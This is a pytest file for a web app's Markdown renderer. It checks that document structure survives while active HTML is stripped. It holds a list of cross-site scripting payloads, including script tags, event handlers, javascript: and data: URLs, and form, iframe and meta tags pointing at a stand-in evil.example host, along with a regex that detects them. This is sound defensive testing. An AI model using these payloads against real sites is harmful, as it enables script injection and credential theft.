"""The one Markdown renderer: structure survives, anything active does not."""

from __future__ import annotations

import re

import pytest
from markupsafe import Markup

from app.markdown import render_markdown

HOSTILE = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="http://evil.example/pixel.png" onerror="window.__pwned = 1">',
    "![tracker](http://evil.example/pixel.png)",
    "[click](javascript:window.__pwned=1)",
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="java&#x09;script:alert(1)">entity-split</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body { display: none }</style>",
    '<div onclick="alert(1)" style="position:fixed" class="x">div</div>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!-- a comment --> after",
]

FORBIDDEN = re.compile(
    r"<\s*(script|img|iframe|style|svg|math|object|embed|form|input|meta|base|link)\b"
    r"|\bon[a-z]+\s*=|javascript:|vbscript:|data:|style=|class=|<!--",
    re.IGNORECASE,
)


def test_returns_markup_and_handles_empty() -> None:
    assert isinstance(render_markdown("text"), Markup)
    assert render_markdown("") == Markup("")
    assert render_markdown(None) == Markup("")


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_is_neutralised(payload: str) -> None:
    html = str(render_markdown(f"Before\n\n{payload}\n\nAfter"))
    assert not FORBIDDEN.search(html), html
    assert "Before" in html  # the document around the payload is kept


def test_all_payloads_together_in_one_document() -> None:
    html = str(render_markdown("\n\n".join(HOSTILE)))
    assert not FORBIDDEN.search(html), html
    assert "evil.example/pixel.png" not in html  # no remote image, not even as a link


def test_structure_survives() -> None:
    html = str(
        render_markdown(
            "## Steps\n\n1. First\n2. Second\n\n- a\n- b\n\n"
            "| element | guide |\n|:---|---:|\n| hold | 30 s |\n\n"
            "**bold** *em* `code`\n\n> quote\n\n---\n\n```\nfenced <b>\n```\n"
        )
    )
    for tag in ("<h2>", "<ol>", "<ul>", "<li>", "<table>", "<thead>", "<tbody>", "<th",
                "<td", "<strong>", "<em>", "<code>", "<blockquote>", "<hr>", "<pre>"):  # fmt: skip
        assert tag in html, tag
    assert '<th align="left">' in html and '<td align="right">' in html
    assert "fenced &lt;b&gt;" in html


def test_safe_links_keep_href_and_get_rel() -> None:
    html = str(render_markdown("[doi](https://doi.org/10.1/x) [mail](mailto:rmt@clinic.test)"))
    assert 'href="https://doi.org/10.1/x"' in html
    assert 'href="mailto:rmt@clinic.test"' in html
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_relative_and_unknown_scheme_links_lose_their_href() -> None:
    html = str(render_markdown("[rel](/admin) [ftp](ftp://x.example/) [frag](#x)"))
    assert "href" not in html
    assert "rel" in html  # the text stays


def test_a_target_or_own_rel_cannot_be_smuggled_in() -> None:
    html = str(render_markdown('<a href="https://x.example" target="_self" rel="opener">x</a>'))
    assert "target" not in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'rel="opener"' not in html


def test_a_failed_conversion_does_not_poison_the_next_one() -> None:
    with pytest.raises(RecursionError):
        render_markdown("- " * 20000 + "x")  # absurd nesting: python-markdown recurses
    html = str(render_markdown("Before\n\n<script>x()</script>\n\nAfter"))
    assert re.sub(r"\s+", "", html) == "<p>Before</p><p>After</p>"
